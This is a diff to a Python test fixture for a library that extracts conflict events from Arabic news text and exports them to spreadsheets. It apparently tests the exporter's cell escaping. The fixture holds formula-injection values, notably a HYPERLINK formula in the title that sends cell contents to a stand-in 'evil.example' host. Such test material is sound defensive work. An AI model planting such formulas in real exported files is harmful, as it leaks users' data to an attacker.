@@ -18,13 +18,32 @@ from riwaya.exchange.base import Counts, Options
 from riwaya.exchange.cells import unprotect
 from riwaya.exchange.formats import FORMATS
 from riwaya.records import (
-    Acled, Actor, Agency, Control, Cue, Dateline, Document, Event, EventDate, Framing, Link, Place, PlaceCandidate, Published, Quantity,
-    Report, Said, Span, Statement, Time, Toll,
+    Acled,
+    Actor,
+    Agency,
+    Control,
+    Cue,
+    Dateline,
+    Document,
+    Event,
+    EventDate,
+    Framing,
+    Link,
+    Place,
+    PlaceCandidate,
+    Published,
+    Quantity,
+    Report,
+    Said,
+    Span,
+    Statement,
+    Time,
+    Toll,
 )  # fmt: skip
 
 TEXT = (
     "بنغازي ـ وكالات\r\n"
-    "قال مصدر أمني لوكالة الرمال إن «مسلحين قتلوا سبعة مدنيين على الأقل و3 جنود، \"أمس\"، قرب سبها\u200f».\n"
+    'قال مصدر أمني لوكالة الرمال إن «مسلحين قتلوا سبعة مدنيين على الأقل و3 جنود، "أمس"، قرب سبها\u200f».\n'
     "+ونفى الجيش قصف المدينة 😀\t، وطالب بوقف القتال."
 )
 TITLE = '=HYPERLINK("http://evil.example/?"&A1;"انقر")\x00'
@@ -96,7 +115,8 @@ def full() -> Document:
         report=Report(
             title=TITLE, section='أخبار "عاجلة"', outlet=OUTLET, url="https://example.org/a?b=1&c=2", language="ar",
             published=Published(value="2025-03-04T08:20", basis="given"), text=TEXT, encoding="utf-8",
-            datelines=[Dateline(span=at("بنغازي"), text="بنغازي")], agencies=[Agency(span=at("وكالات"), text="وكالات", name="news agencies")],
+            datelines=[Dateline(span=at("بنغازي"), text="بنغازي")],
+            agencies=[Agency(span=at("وكالات"), text="وكالات", name="news agencies")],
         ),
         sentences=[(0, ends[0]), (ends[0] + 1, ends[1]), (ends[1] + 1, ends[2])],
         times=[
@@ -121,7 +141,7 @@ def full() -> Document:
             actor("a2", "وكالة الرمال", kind="media", entity="rimal", name="Rimal Agency", name_ar="وكالة الرمال", country="SD"),
             actor("a3", "مسلحين", kind="armed_group", name="gunmen"),
             actor("a4", "سبعة مدنيين", kind="people", name="civilians"),
-            actor("a5", "الجيش", kind="military", entity="libyan-army", name="Libyan Army", name_ar="الجيش الليبي", country="LY", sector="MIL"),
+            actor("a5", "الجيش", kind="military", entity="libyan-army", name="Libyan Army", name_ar="الجيش الليبي", country="LY"),
         ],
         statements=[
             statement("s1", QUOTE, "قال", mode="direct", said=Said(time="t1", value="2025-03-03"), venue="بيان", chain=[
@@ -133,7 +153,8 @@ def full() -> Document:
         events=[
             event(
                 "e1", "قتلوا", acled=Acled(event_type="Violence against civilians", sub_event_type="Attack"), cameo="180",
-                mode="firearms", actor=["a3"], recipient=["a4"], place=["p1", "p2"], date=YESTERDAY, statement="s1", weapon='=1+1"\n',
+                mode="firearms", actor=["a3"], recipient=["a4"], place=["p1", "p2"], date=YESTERDAY, statement="s1",
+                weapon='=1+1"\n',
                 tolls=[Toll(quantity="q1", effect="killed", who="civilians"), Toll(quantity="q2", effect="killed", who="soldiers")],
             ),
             event(
